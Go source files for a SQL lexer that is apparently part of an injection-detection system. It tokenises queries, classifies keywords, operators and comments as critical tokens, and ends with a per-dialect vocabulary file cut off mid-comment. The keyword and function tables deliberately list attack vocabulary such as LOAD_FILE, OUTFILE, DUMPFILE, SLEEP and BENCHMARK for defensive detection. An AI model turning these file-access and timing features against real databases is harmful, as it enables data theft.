			if l.sp.doubleQuoteIdent {
				l.lexQuotedIdent('"', true)
			} else {
				l.lexString(l.pos, '"', l.sp.backslashEscapes)
			}
		case c == '`' && l.sp.backtickIdent:
			l.lexQuotedIdent('`', false)
		case c == '#' && l.sp.hashComment:
			l.lexLineComment(1)
		case c == '#' && l.sp.hashOperator:
			l.lexOperator()
		case c == '-' && l.peekAt(1) == '-':
			// MySQL requires whitespace (or end of input) after "--" for a
			// comment; otherwise it is the minus operator twice. Postgres
			// and SQLite start the comment unconditionally.
			if !l.sp.dashDashNeedsSpace || l.pos+2 >= len(l.src) || isSpaceByte(l.src[l.pos+2]) {
				l.lexLineComment(2)
			} else {
				l.lexOperator()
			}
		case c == '/' && l.peekAt(1) == '*':
			l.lexBlockComment(l.sp.nestedBlockComment)
		case l.sp.eStrings && (c == 'E' || c == 'e') && l.peekAt(1) == '\'':
			// Postgres escape string: the E prefix is part of the literal
			// and re-enables backslash escapes.
			start := l.pos
			l.pos++
			l.lexString(start, '\'', true)
		case isDigit(c), c == '.' && isDigit(l.peekAt(1)):
			l.lexNumber()
		case l.identStart(c):
			l.lexWord()
		case c == '$':
			l.lexDollar()
		case c == '?':
			l.lexQuestion()
		case c == ':' && l.peekAt(1) == ':':
			// The cast operator, one token in every dialect. (It previously
			// mis-lexed as an invalid byte followed by a named placeholder.)
			l.emit(KindOperator, l.pos, l.pos+2, false)
			l.pos += 2
		case c == ':' && l.peekAt(1) == '=':
			l.lexOperator()
		case c == ':' && l.sp.colonPlaceholder && l.identStart(l.peekAt(1)):
			l.lexNamedPlaceholder()
		case c == ':' && l.sp.colonOperator:
			l.lexOperator()
		case c == '@' && l.sp.atVariable:
			l.lexVariable()
		case c == '@' && l.sp.atPlaceholder && l.identByte(l.peekAt(1)):
			l.lexNamedPlaceholder()
		case c == '@' && l.sp.atOperator:
			l.lexOperator()
		case isPunct(c):
			l.emit(KindPunct, l.pos, l.pos+1, false)
			l.pos++
		case isOperatorByte(c):
			l.lexOperator()
		default:
			l.emit(KindInvalid, l.pos, l.pos+1, false)
			l.pos++
		}
	}
	return l.toks
}

func (l *lexer) peekAt(off int) byte {
	if l.pos+off < len(l.src) {
		return l.src[l.pos+off]
	}
	return 0
}

func (l *lexer) emit(kind Kind, start, end int, unterminated bool) {
	l.toks = append(l.toks, Token{
		Kind:         kind,
		Text:         l.src[start:end],
		Start:        start,
		End:          end,
		Unterminated: unterminated,
	})
}

// lexString scans a quoted string whose opening delimiter sits at the
// cursor; start may precede it to fold a prefix (Postgres E'…') into the
// token. A doubled quote always escapes; backslash escapes only when the
// dialect says so.
func (l *lexer) lexString(start int, quote byte, backslash bool) {
	l.pos++ // opening quote
	for l.pos < len(l.src) {
		c := l.src[l.pos]
		if backslash && c == '\\' && l.pos+1 < len(l.src) {
			l.pos += 2
			continue
		}
		if c == quote {
			// Doubled quote is an escaped quote inside the literal.
			if l.peekAt(1) == quote {
				l.pos += 2
				continue
			}
			l.pos++
			l.emit(KindString, start, l.pos, false)
			return
		}
		l.pos++
	}
	l.emit(KindString, start, l.pos, true)
}

// lexQuotedIdent scans a quoted identifier (`…` or "…"). Postgres and
// SQLite escape the delimiter by doubling it; MySQL backticks do not.
func (l *lexer) lexQuotedIdent(quote byte, doubled bool) {
	start := l.pos
	l.pos++
	for l.pos < len(l.src) {
		if l.src[l.pos] == quote {
			if doubled && l.peekAt(1) == quote {
				l.pos += 2
				continue
			}
			l.pos++
			l.emit(KindBacktick, start, l.pos, false)
			return
		}
		l.pos++
	}
	l.emit(KindBacktick, start, l.pos, true)
}

func (l *lexer) lexLineComment(markerLen int) {
	start := l.pos
	l.pos += markerLen
	for l.pos < len(l.src) && l.src[l.pos] != '\n' {
		l.pos++
	}
	l.emit(KindComment, start, l.pos, false)
}

func (l *lexer) lexBlockComment(nested bool) {
	start := l.pos
	l.pos += 2
	depth := 1
	for l.pos < len(l.src) {
		if l.src[l.pos] == '*' && l.peekAt(1) == '/' {
			l.pos += 2
			if depth--; depth == 0 {
				l.emit(KindComment, start, l.pos, false)
				return
			}
			continue
		}
		if nested && l.src[l.pos] == '/' && l.peekAt(1) == '*' {
			l.pos += 2
			depth++
			continue
		}
		l.pos++
	}
	l.emit(KindComment, start, l.pos, true)
}

func (l *lexer) lexNumber() {
	start := l.pos
	// Hexadecimal literal: 0x...
	if l.src[l.pos] == '0' && (l.peekAt(1) == 'x' || l.peekAt(1) == 'X') && isHexDigit(l.peekAt(2)) {
		l.pos += 2
		for l.pos < len(l.src) && isHexDigit(l.src[l.pos]) {
			l.pos++
		}
		l.emit(KindNumber, start, l.pos, false)
		return
	}
	for l.pos < len(l.src) && isDigit(l.src[l.pos]) {
		l.pos++
	}
	if l.pos < len(l.src) && l.src[l.pos] == '.' {
		l.pos++
		for l.pos < len(l.src) && isDigit(l.src[l.pos]) {
			l.pos++
		}
	}
	// Exponent part: 1e10, 2.5E-3.
	if l.pos < len(l.src) && (l.src[l.pos] == 'e' || l.src[l.pos] == 'E') {
		next := l.peekAt(1)
		if isDigit(next) {
			l.pos += 2
			for l.pos < len(l.src) && isDigit(l.src[l.pos]) {
				l.pos++
			}
		} else if (next == '+' || next == '-') && isDigit(l.peekAt(2)) {
			l.pos += 3
			for l.pos < len(l.src) && isDigit(l.src[l.pos]) {
				l.pos++
			}
		}
	}
	l.emit(KindNumber, start, l.pos, false)
}

func (l *lexer) lexWord() {
	start := l.pos
	for l.pos < len(l.src) && l.identByte(l.src[l.pos]) {
		l.pos++
	}
	word := strings.ToUpper(l.src[start:l.pos])
	// A known function name directly followed by '(' (optionally with
	// whitespace) is a function token.
	if l.sp.functions[word] && l.nextNonSpaceIs('(') {
		l.emit(KindFunction, start, l.pos, false)
		return
	}
	if l.sp.keywords[word] {
		l.emit(KindKeyword, start, l.pos, false)
		return
	}
	l.emit(KindIdent, start, l.pos, false)
}

func (l *lexer) nextNonSpaceIs(want byte) bool {
	for i := l.pos; i < len(l.src); i++ {
		if isSpaceByte(l.src[i]) {
			continue
		}
		return l.src[i] == want
	}
	return false
}

// lexNamedPlaceholder scans a marker byte (':', '@' or '$') followed by an
// identifier as one placeholder token.
func (l *lexer) lexNamedPlaceholder() {
	start := l.pos
	l.pos++ // marker
	for l.pos < len(l.src) && l.identByte(l.src[l.pos]) {
		l.pos++
	}
	l.emit(KindPlaceholder, start, l.pos, false)
}

func (l *lexer) lexVariable() {
	start := l.pos
	l.pos++ // '@'
	if l.pos < len(l.src) && l.src[l.pos] == '@' {
		l.pos++ // system variable @@
	}
	for l.pos < len(l.src) && l.identByte(l.src[l.pos]) {
		l.pos++
	}
	l.emit(KindVariable, start, l.pos, false)
}

// lexQuestion scans '?' — a positional placeholder where the dialect has
// one (with an optional ?NNN number in SQLite), an operator in Postgres.
func (l *lexer) lexQuestion() {
	if !l.sp.questionPlaceholder {
		l.lexOperator()
		return
	}
	start := l.pos
	l.pos++
	if l.sp.questionNumber {
		for l.pos < len(l.src) && isDigit(l.src[l.pos]) {
			l.pos++
		}
	}
	l.emit(KindPlaceholder, start, l.pos, false)
}

// lexDollar handles a '$' that did not start an identifier: Postgres $1
// placeholders and $tag$…$tag$ dollar-quoted strings, SQLite $name
// placeholders. A lone '$' that fits no dialect form is invalid.
func (l *lexer) lexDollar() {
	if l.sp.dollarNumber && isDigit(l.peekAt(1)) {
		start := l.pos
		l.pos++
		for l.pos < len(l.src) && isDigit(l.src[l.pos]) {
			l.pos++
		}
		l.emit(KindPlaceholder, start, l.pos, false)
		return
	}
	if l.sp.dollarName && l.identByte(l.peekAt(1)) {
		l.lexNamedPlaceholder()
		return
	}
	if l.sp.dollarQuote && l.lexDollarQuote() {
		return
	}
	l.emit(KindInvalid, l.pos, l.pos+1, false)
	l.pos++
}

// lexDollarQuote scans a Postgres dollar-quoted string $tag$…$tag$ (the
// tag may be empty: $$…$$). It reports false, leaving the cursor in place,
// when the byte at the cursor does not open a well-formed tag.
func (l *lexer) lexDollarQuote() bool {
	i := l.pos + 1
	for i < len(l.src) && isTagByte(l.src[i]) {
		i++
	}
	if i >= len(l.src) || l.src[i] != '$' {
		return false
	}
	start := l.pos
	tag := l.src[l.pos : i+1] // "$tag$", both delimiters included
	body := i + 1
	if j := strings.Index(l.src[body:], tag); j >= 0 {
		l.pos = body + j + len(tag)
		l.emit(KindString, start, l.pos, false)
		return true
	}
	l.pos = len(l.src)
	l.emit(KindString, start, l.pos, true)
	return true
}

func (l *lexer) lexOperator() {
	start := l.pos
	// Two-byte operators first.
	if l.pos+1 < len(l.src) {
		two := l.src[l.pos : l.pos+2]
		switch two {
		case "<=", ">=", "<>", "!=", "||", "&&", ":=", "<<", ">>":
			l.pos += 2
			l.emit(KindOperator, start, l.pos, false)
			return
		}
	}
	l.pos++
	l.emit(KindOperator, start, l.pos, false)
}

func isDigit(c byte) bool    { return c >= '0' && c <= '9' }
func isHexDigit(c byte) bool { return isDigit(c) || (c >= 'a' && c <= 'f') || (c >= 'A' && c <= 'F') }

// identStart reports whether c can begin an unquoted identifier. Only
// MySQL lets '$' start one; Postgres and SQLite accept '$' in continuation
// position only (identByte), which frees the leading '$' for placeholders
// and dollar-quoting.
func (l *lexer) identStart(c byte) bool {
	return c == '_' || (c == '$' && l.sp.dollarIdentStart) ||
		(c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || c >= 0x80
}

// identByte reports whether c can continue an unquoted identifier. All
// three dialects accept '$' here.
func (l *lexer) identByte(c byte) bool {
	return c == '_' || c == '$' || isDigit(c) ||
		(c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || c >= 0x80
}

func isTagByte(c byte) bool {
	return c == '_' || isDigit(c) || (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || c >= 0x80
}

func isSpaceByte(c byte) bool {
	return c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\f' || c == '\v'
}

func isPunct(c byte) bool {
	switch c {
	case '(', ')', ',', ';', '.':
		return true
	}
	return false
}

func isOperatorByte(c byte) bool {
	switch c {
	case '=', '<', '>', '!', '+', '-', '*', '/', '%', '|', '&', '^', '~':
		return true
	}
	return false
}

// CriticalStrict reports whether the token is critical under the strict
// (Ray–Ligatti-style) policy of Section II, where user input may not
// contribute identifiers (field or table names) either: everything except
// literal data (numbers, strings) and placeholders is critical.
func (t Token) CriticalStrict() bool {
	switch t.Kind {
	case KindNumber, KindString, KindPlaceholder:
		return false
	default:
		return true
	}
}

// CriticalTokens returns the subset of toks that are critical.
func CriticalTokens(toks []Token) []Token {
	out := make([]Token, 0, len(toks))
	for _, t := range toks {
		if t.Critical() {
			out = append(out, t)
		}
	}
	return out
}

// ContainsSQLToken reports whether s lexes (in the MySQL dialect) to at
// least one non-invalid SQL token that is meaningful for fragment
// retention: a keyword, function, operator, punctuation, comment, string
// or quoted-identifier token. PTI uses this to discard program fragments
// that could never cover a critical token.
func ContainsSQLToken(s string) bool {
	return MySQL.ContainsSQLToken(s)
}

// CoversWholeToken reports whether the span [start, end) of the query whose
// tokens are toks fully contains at least one whole token. NTI requires a
// matched input to cover at least one whole SQL token before its markings
// can indicate an attack, to suppress false positives from very short inputs.
func CoversWholeToken(toks []Token, start, end int) bool {
	for _, t := range toks {
		if t.Start >= start && t.End <= end {
			return true
		}
	}
	return false
}
