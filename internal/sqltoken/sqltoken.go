// Package sqltoken implements a SQL lexer that tokenizes query strings into
// position-annotated tokens and classifies each token as critical or data.
//
// The notion of a "critical token" follows the Joza paper (DSN 2015): SQL
// keywords, built-in functions, operators, delimiters and comments are
// critical; identifiers, numbers and string-literal contents are data. The
// threat model deliberately permits field and table names to be supplied by
// user input, so plain identifiers are never critical.
//
// Tokens carry byte offsets into the original query so taint-inference
// components can test whether a token is covered by a tainted or trusted span.
package sqltoken

import (
	"strings"
)

// Kind identifies the lexical class of a token.
type Kind int

// Token kinds. Keyword, Function, Operator, Punct and Comment are the
// critical kinds; the rest are data.
const (
	KindKeyword Kind = iota + 1
	KindIdent
	KindNumber
	KindString
	KindOperator
	KindPunct
	KindComment
	KindPlaceholder
	KindBacktick
	KindFunction
	KindVariable
	KindInvalid
)

var kindNames = map[Kind]string{
	KindKeyword:     "keyword",
	KindIdent:       "ident",
	KindNumber:      "number",
	KindString:      "string",
	KindOperator:    "operator",
	KindPunct:       "punct",
	KindComment:     "comment",
	KindPlaceholder: "placeholder",
	KindBacktick:    "backtick",
	KindFunction:    "function",
	KindVariable:    "variable",
	KindInvalid:     "invalid",
}

// String returns a human-readable name for the kind.
func (k Kind) String() string {
	if s, ok := kindNames[k]; ok {
		return s
	}
	return "unknown"
}

// Span is a half-open byte range [Start, End) within a query string.
type Span struct {
	Start int
	End   int
}

// Len returns the number of bytes covered by the span.
func (s Span) Len() int { return s.End - s.Start }

// Contains reports whether the span fully contains other.
func (s Span) Contains(other Span) bool {
	return s.Start <= other.Start && other.End <= s.End
}

// Overlaps reports whether the two spans share at least one byte.
func (s Span) Overlaps(other Span) bool {
	return s.Start < other.End && other.Start < s.End
}

// Token is a single lexical token of a SQL query.
type Token struct {
	Kind Kind
	// Text is the raw source text of the token, including any quotes or
	// comment markers.
	Text string
	// Start and End are byte offsets into the query; the token occupies
	// query[Start:End].
	Start int
	End   int
	// Unterminated is set for string and block-comment tokens that reach
	// the end of input without their closing delimiter.
	Unterminated bool
}

// Span returns the byte range the token occupies.
func (t Token) Span() Span { return Span{Start: t.Start, End: t.End} }

// Critical reports whether the token is security-critical per the Joza
// model: keywords, built-in functions, operators, delimiters (punctuation)
// and comments.
func (t Token) Critical() bool {
	switch t.Kind {
	case KindKeyword, KindFunction, KindOperator, KindPunct, KindComment:
		return true
	default:
		return false
	}
}

// keywords is the set of SQL keywords recognized by the lexer. The list
// covers the MySQL dialect subset exercised by the evaluation plus common
// attack vocabulary.
var keywords = map[string]bool{
	"ADD": true, "ALL": true, "ALTER": true, "AND": true, "AS": true,
	"ASC": true, "BEGIN": true, "BETWEEN": true, "BY": true, "CASE": true,
	"COLLATE": true, "COLUMN": true, "COMMIT": true, "CREATE": true,
	"CROSS": true, "DATABASE": true, "DEFAULT": true, "DELETE": true,
	"DESC": true, "DISTINCT": true, "DROP": true, "ELSE": true, "END": true,
	"ESCAPE": true, "EXISTS": true, "FALSE": true, "FROM": true, "FULL": true,
	"GROUP": true, "HAVING": true, "IF": true, "IN": true, "INDEX": true, "INNER": true,
	"INSERT": true, "INTO": true, "IS": true, "JOIN": true, "KEY": true,
	"LEFT": true, "LIKE": true, "LIMIT": true, "NOT": true, "NULL": true,
	"OFFSET": true, "ON": true, "OR": true, "ORDER": true, "OUTER": true,
	"PRIMARY": true, "PROCEDURE": true, "REGEXP": true, "RIGHT": true,
	"ROLLBACK": true, "SELECT": true, "SET": true, "TABLE": true,
	"THEN": true, "TRUE": true, "TRUNCATE": true, "UNION": true,
	"UNIQUE": true, "UPDATE": true, "VALUES": true, "WHEN": true,
	"WHERE": true, "XOR": true, "DIV": true, "MOD": true, "RLIKE": true,
	"SOUNDS": true, "BINARY": true, "USING": true, "NATURAL": true,
	"INTERVAL": true, "PARTITION": true, "EXEC": true, "EXECUTE": true,
	"PREPARE": true, "DEALLOCATE": true, "GRANT": true, "REVOKE": true,
	"REPLACE": true, "LOAD": true, "OUTFILE": true, "DUMPFILE": true,
	"INFILE": true, "HANDLER": true, "CAST": true, "CONVERT": true,
}

// builtinFunctions is the set of identifiers treated as built-in SQL
// functions when immediately followed by an opening parenthesis.
var builtinFunctions = map[string]bool{
	"ABS": true, "ASCII": true, "AVG": true, "BENCHMARK": true,
	"BIN": true, "CEIL": true, "CEILING": true, "CHAR": true,
	"CHAR_LENGTH": true, "CHARACTER_LENGTH": true, "COALESCE": true,
	"CONCAT": true, "CONCAT_WS": true, "CONNECTION_ID": true,
	"COUNT": true, "CURDATE": true, "CURRENT_DATE": true,
	"CURRENT_TIME": true, "CURRENT_TIMESTAMP": true, "CURRENT_USER": true,
	"CURTIME": true, "DATABASE": true, "DATE": true, "DATE_ADD": true,
	"DATE_FORMAT": true, "DATE_SUB": true, "DAY": true, "ELT": true,
	"EXP": true, "EXTRACT": true, "EXTRACTVALUE": true, "FIELD": true,
	"FIND_IN_SET": true, "FLOOR": true, "FORMAT": true, "FOUND_ROWS": true,
	"GREATEST": true, "GROUP_CONCAT": true, "HEX": true, "HOUR": true,
	"IF": true, "IFNULL": true, "INSTR": true, "LAST_INSERT_ID": true,
	"LCASE": true, "LEAST": true, "LEFT": true, "LENGTH": true,
	"LOAD_FILE": true, "LOCATE": true, "LOWER": true, "LPAD": true,
	"LTRIM": true, "MAKE_SET": true, "MAX": true, "MD5": true,
	"MID": true, "MIN": true, "MINUTE": true, "MONTH": true, "NOW": true,
	"NULLIF": true, "OCT": true, "ORD": true, "PASSWORD": true, "PI": true,
	"POSITION": true, "POW": true, "POWER": true, "QUOTE": true,
	"RAND": true, "REPEAT": true, "REPLACE": true, "REVERSE": true,
	"RIGHT": true, "ROUND": true, "ROW_COUNT": true, "RPAD": true,
	"RTRIM": true, "SCHEMA": true, "SECOND": true, "SESSION_USER": true,
	"SHA": true, "SHA1": true, "SHA2": true, "SIGN": true, "SLEEP": true,
	"SPACE": true, "SQRT": true, "STRCMP": true, "SUBSTR": true,
	"SUBSTRING": true, "SUBSTRING_INDEX": true, "SUM": true,
	"SYSDATE": true, "SYSTEM_USER": true, "TRIM": true, "TRUNCATE": true,
	"UCASE": true, "UNHEX": true, "UNIX_TIMESTAMP": true, "UPDATEXML": true,
	"UPPER": true, "USER": true, "USERNAME": true, "UUID": true,
	"VERSION": true, "WEEK": true, "YEAR": true,
}

// IsKeyword reports whether word (case-insensitive) is a SQL keyword.
func IsKeyword(word string) bool {
	return keywords[strings.ToUpper(word)]
}

// IsBuiltinFunction reports whether name (case-insensitive) is a recognized
// built-in SQL function name.
func IsBuiltinFunction(name string) bool {
	return builtinFunctions[strings.ToUpper(name)]
}

// Lex tokenizes query. It never fails: malformed input produces tokens with
// Unterminated set or tokens of KindInvalid, because a defense must be able
// to reason about queries an attacker deliberately malformed.
func Lex(query string) []Token {
	lx := lexer{src: query}
	return lx.run()
}

type lexer struct {
	src  string
	pos  int
	toks []Token
}

func (l *lexer) run() []Token {
	l.toks = make([]Token, 0, len(l.src)/4+4)
	for l.pos < len(l.src) {
		c := l.src[l.pos]
		switch {
		case c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\f' || c == '\v':
			l.pos++
		case c == '\'' || c == '"':
			l.lexString(c)
		case c == '`':
			l.lexBacktick()
		case c == '#':
			l.lexLineComment(1)
		case c == '-' && l.peekAt(1) == '-':
			// MySQL requires whitespace (or end of input) after "--" for a
			// comment; otherwise it is the minus operator twice.
			if l.pos+2 >= len(l.src) || isSpaceByte(l.src[l.pos+2]) {
				l.lexLineComment(2)
			} else {
				l.lexOperator()
			}
		case c == '/' && l.peekAt(1) == '*':
			l.lexBlockComment()
		case isDigit(c), c == '.' && isDigit(l.peekAt(1)):
			l.lexNumber()
		case isIdentStart(c):
			l.lexWord()
		case c == '?':
			l.emit(KindPlaceholder, l.pos, l.pos+1, false)
			l.pos++
		case c == ':' && l.peekAt(1) == '=':
			l.lexOperator()
		case c == ':' && isIdentStart(l.peekAt(1)):
			l.lexNamedPlaceholder()
		case c == '@':
			l.lexVariable()
		case isPunct(c):
			l.emit(KindPunct, l.pos, l.pos+1, false)
			l.pos++
		case isOperatorByte(c):
			l.lexOperator()
		default:
			l.emit(KindInvalid, l.pos, l.pos+1, false)
			l.pos++
		}
	}
	return l.toks
}

func (l *lexer) peekAt(off int) byte {
	if l.pos+off < len(l.src) {
		return l.src[l.pos+off]
	}
	return 0
}

func (l *lexer) emit(kind Kind, start, end int, unterminated bool) {
	l.toks = append(l.toks, Token{
		Kind:         kind,
		Text:         l.src[start:end],
		Start:        start,
		End:          end,
		Unterminated: unterminated,
	})
}

func (l *lexer) lexString(quote byte) {
	start := l.pos
	l.pos++ // opening quote
	for l.pos < len(l.src) {
		c := l.src[l.pos]
		if c == '\\' && l.pos+1 < len(l.src) {
			l.pos += 2
			continue
		}
		if c == quote {
			// Doubled quote is an escaped quote inside the literal.
			if l.peekAt(1) == quote {
				l.pos += 2
				continue
			}
			l.pos++
			l.emit(KindString, start, l.pos, false)
			return
		}
		l.pos++
	}
	l.emit(KindString, start, l.pos, true)
}

func (l *lexer) lexBacktick() {
	start := l.pos
	l.pos++
	for l.pos < len(l.src) {
		if l.src[l.pos] == '`' {
			l.pos++
			l.emit(KindBacktick, start, l.pos, false)
			return
		}
		l.pos++
	}
	l.emit(KindBacktick, start, l.pos, true)
}

func (l *lexer) lexLineComment(markerLen int) {
	start := l.pos
	l.pos += markerLen
	for l.pos < len(l.src) && l.src[l.pos] != '\n' {
		l.pos++
	}
	l.emit(KindComment, start, l.pos, false)
}

func (l *lexer) lexBlockComment() {
	start := l.pos
	l.pos += 2
	for l.pos < len(l.src) {
		if l.src[l.pos] == '*' && l.peekAt(1) == '/' {
			l.pos += 2
			l.emit(KindComment, start, l.pos, false)
			return
		}
		l.pos++
	}
	l.emit(KindComment, start, l.pos, true)
}

func (l *lexer) lexNumber() {
	start := l.pos
	// Hexadecimal literal: 0x...
	if l.src[l.pos] == '0' && (l.peekAt(1) == 'x' || l.peekAt(1) == 'X') && isHexDigit(l.peekAt(2)) {
		l.pos += 2
		for l.pos < len(l.src) && isHexDigit(l.src[l.pos]) {
			l.pos++
		}
		l.emit(KindNumber, start, l.pos, false)
		return
	}
	for l.pos < len(l.src) && isDigit(l.src[l.pos]) {
		l.pos++
	}
	if l.pos < len(l.src) && l.src[l.pos] == '.' {
		l.pos++
		for l.pos < len(l.src) && isDigit(l.src[l.pos]) {
			l.pos++
		}
	}
	// Exponent part: 1e10, 2.5E-3.
	if l.pos < len(l.src) && (l.src[l.pos] == 'e' || l.src[l.pos] == 'E') {
		next := l.peekAt(1)
		if isDigit(next) {
			l.pos += 2
			for l.pos < len(l.src) && isDigit(l.src[l.pos]) {
				l.pos++
			}
		} else if (next == '+' || next == '-') && isDigit(l.peekAt(2)) {
			l.pos += 3
			for l.pos < len(l.src) && isDigit(l.src[l.pos]) {
				l.pos++
			}
		}
	}
	l.emit(KindNumber, start, l.pos, false)
}

func (l *lexer) lexWord() {
	start := l.pos
	for l.pos < len(l.src) && isIdentByte(l.src[l.pos]) {
		l.pos++
	}
	word := l.src[start:l.pos]
	// A known function name directly followed by '(' (optionally with
	// whitespace) is a function token.
	if IsBuiltinFunction(word) && l.nextNonSpaceIs('(') {
		l.emit(KindFunction, start, l.pos, false)
		return
	}
	if IsKeyword(word) {
		l.emit(KindKeyword, start, l.pos, false)
		return
	}
	l.emit(KindIdent, start, l.pos, false)
}

func (l *lexer) nextNonSpaceIs(want byte) bool {
	for i := l.pos; i < len(l.src); i++ {
		if isSpaceByte(l.src[i]) {
			continue
		}
		return l.src[i] == want
	}
	return false
}

func (l *lexer) lexNamedPlaceholder() {
	start := l.pos
	l.pos++ // ':'
	for l.pos < len(l.src) && isIdentByte(l.src[l.pos]) {
		l.pos++
	}
	l.emit(KindPlaceholder, start, l.pos, false)
}

func (l *lexer) lexVariable() {
	start := l.pos
	l.pos++ // '@'
	if l.pos < len(l.src) && l.src[l.pos] == '@' {
		l.pos++ // system variable @@
	}
	for l.pos < len(l.src) && isIdentByte(l.src[l.pos]) {
		l.pos++
	}
	l.emit(KindVariable, start, l.pos, false)
}

func (l *lexer) lexOperator() {
	start := l.pos
	// Two-byte operators first.
	if l.pos+1 < len(l.src) {
		two := l.src[l.pos : l.pos+2]
		switch two {
		case "<=", ">=", "<>", "!=", "||", "&&", ":=", "<<", ">>":
			l.pos += 2
			l.emit(KindOperator, start, l.pos, false)
			return
		}
	}
	l.pos++
	l.emit(KindOperator, start, l.pos, false)
}

func isDigit(c byte) bool    { return c >= '0' && c <= '9' }
func isHexDigit(c byte) bool { return isDigit(c) || (c >= 'a' && c <= 'f') || (c >= 'A' && c <= 'F') }

func isIdentStart(c byte) bool {
	return c == '_' || c == '$' || (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || c >= 0x80
}

func isIdentByte(c byte) bool { return isIdentStart(c) || isDigit(c) }

func isSpaceByte(c byte) bool {
	return c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\f' || c == '\v'
}

func isPunct(c byte) bool {
	switch c {
	case '(', ')', ',', ';', '.':
		return true
	}
	return false
}

func isOperatorByte(c byte) bool {
	switch c {
	case '=', '<', '>', '!', '+', '-', '*', '/', '%', '|', '&', '^', '~':
		return true
	}
	return false
}

// CriticalStrict reports whether the token is critical under the strict
// (Ray–Ligatti-style) policy of Section II, where user input may not
// contribute identifiers (field or table names) either: everything except
// literal data (numbers, strings) and placeholders is critical.
func (t Token) CriticalStrict() bool {
	switch t.Kind {
	case KindNumber, KindString, KindPlaceholder:
		return false
	default:
		return true
	}
}

// CriticalTokens returns the subset of toks that are critical.
func CriticalTokens(toks []Token) []Token {
	out := make([]Token, 0, len(toks))
	for _, t := range toks {
		if t.Critical() {
			out = append(out, t)
		}
	}
	return out
}

// ContainsSQLToken reports whether s lexes to at least one non-invalid SQL
// token that is meaningful for fragment retention: a keyword, function,
// operator, punctuation, comment, string or backtick token. PTI uses this to
// discard program fragments that could never cover a critical token.
func ContainsSQLToken(s string) bool {
	for _, t := range Lex(s) {
		switch t.Kind {
		case KindKeyword, KindFunction, KindOperator, KindPunct, KindComment,
			KindString, KindBacktick:
			return true
		}
	}
	return false
}

// CoversWholeToken reports whether the span [start, end) of the query whose
// tokens are toks fully contains at least one whole token. NTI requires a
// matched input to cover at least one whole SQL token before its markings
// can indicate an attack, to suppress false positives from very short inputs.
func CoversWholeToken(toks []Token, start, end int) bool {
	for _, t := range toks {
		if t.Start >= start && t.End <= end {
			return true
		}
	}
	return false
}
