package sqltoken

// Keyword and built-in-function vocabulary, split per dialect.
//
// The seed lexer kept one shared table that mixed ANSI vocabulary with
// MySQL-only words and a few entries that belong to no dialect at all
// (notably USERNAME, a seeding artifact). The split below keeps a shared
// base of ANSI vocabulary plus cross-dialect attack vocabulary, with each
// dialect contributing its own delta. Two invariants are pinned by tests:
//
//   - the MySQL union is exactly the seed table, byte for byte, so the
//     default dialect classifies every historical corpus identically;
//   - the shared base contains no dialect-specific leak (USERNAME lives
//     only in the MySQL delta, kept there purely for seed compatibility —
//     the testbed's `username()` probe predates the split).

// baseKeywords is the ANSI core plus attack vocabulary meaningful in every
// dialect (EXEC/CONVERT and friends stay: an injected MSSQL-ism is still
// worth flagging no matter which backend the guard fronts).
var baseKeywords = wordSet(
	"ADD", "ALL", "ALTER", "AND", "AS", "ASC", "BEGIN", "BETWEEN", "BY",
	"CASE", "CAST", "COLLATE", "COLUMN", "COMMIT", "CONVERT", "CREATE",
	"CROSS", "DATABASE", "DEALLOCATE", "DEFAULT", "DELETE", "DESC",
	"DISTINCT", "DROP", "ELSE", "END", "ESCAPE", "EXEC", "EXECUTE",
	"EXISTS", "FALSE", "FROM", "FULL", "GRANT", "GROUP", "HAVING", "IF",
	"IN", "INDEX", "INNER", "INSERT", "INTERVAL", "INTO", "IS", "JOIN",
	"KEY", "LEFT", "LIKE", "LIMIT", "NATURAL", "NOT", "NULL", "OFFSET",
	"ON", "OR", "ORDER", "OUTER", "PARTITION", "PREPARE", "PRIMARY",
	"PROCEDURE", "REVOKE", "RIGHT", "ROLLBACK", "SELECT", "SET", "TABLE",
	"THEN", "TRUE", "TRUNCATE", "UNION", "UNIQUE", "UPDATE", "USING",
	"VALUES", "WHEN", "WHERE",
)

// baseFunctions is the function vocabulary shared by all three dialects.
var baseFunctions = wordSet(
	"ABS", "ASCII", "AVG", "CEIL", "CEILING", "CHAR", "COALESCE", "CONCAT",
	"COUNT", "CURRENT_DATE", "CURRENT_TIME", "CURRENT_TIMESTAMP",
	"CURRENT_USER", "DATE", "DAY", "EXP", "EXTRACT", "FLOOR", "GREATEST",
	"HOUR", "LEAST", "LEFT", "LENGTH", "LOWER", "LPAD", "LTRIM", "MAX",
	"MIN", "MINUTE", "MONTH", "NOW", "NULLIF", "PI", "POSITION", "POW",
	"POWER", "REPEAT", "REPLACE", "REVERSE", "RIGHT", "ROUND", "RPAD",
	"RTRIM", "SECOND", "SESSION_USER", "SIGN", "SQRT", "SUBSTR",
	"SUBSTRING", "SUM", "TRIM", "UPPER", "USER", "VERSION", "WEEK", "YEAR",
)

// MySQL deltas. The union base ∪ delta reproduces the seed tables exactly
// (TestMySQLVocabularyMatchesSeed pins this).
var mysqlKeywords = mergeWords(baseKeywords, wordSet(
	"BINARY", "DIV", "DUMPFILE", "HANDLER", "INFILE", "LOAD", "MOD",
	"OUTFILE", "REGEXP", "REPLACE", "RLIKE", "SOUNDS", "XOR",
))

var mysqlFunctions = mergeWords(baseFunctions, wordSet(
	"BENCHMARK", "BIN", "CHAR_LENGTH", "CHARACTER_LENGTH", "CONCAT_WS",
	"CONNECTION_ID", "CURDATE", "CURTIME", "DATABASE", "DATE_ADD",
	"DATE_FORMAT", "DATE_SUB", "ELT", "EXTRACTVALUE", "FIELD",
	"FIND_IN_SET", "FORMAT", "FOUND_ROWS", "GROUP_CONCAT", "HEX", "IF",
	"IFNULL", "INSTR", "LAST_INSERT_ID", "LCASE", "LOAD_FILE", "LOCATE",
	"MAKE_SET", "MD5", "MID", "OCT", "ORD", "PASSWORD", "QUOTE", "RAND",
	"ROW_COUNT", "SCHEMA", "SHA", "SHA1", "SHA2", "SLEEP", "SPACE",
	"STRCMP", "SUBSTRING_INDEX", "SYSDATE", "SYSTEM_USER", "TRUNCATE",
	"UCASE", "UNHEX", "UNIX_TIMESTAMP", "UPDATEXML", "UUID",
	// USERNAME is no dialect's function — it leaked into the shared table
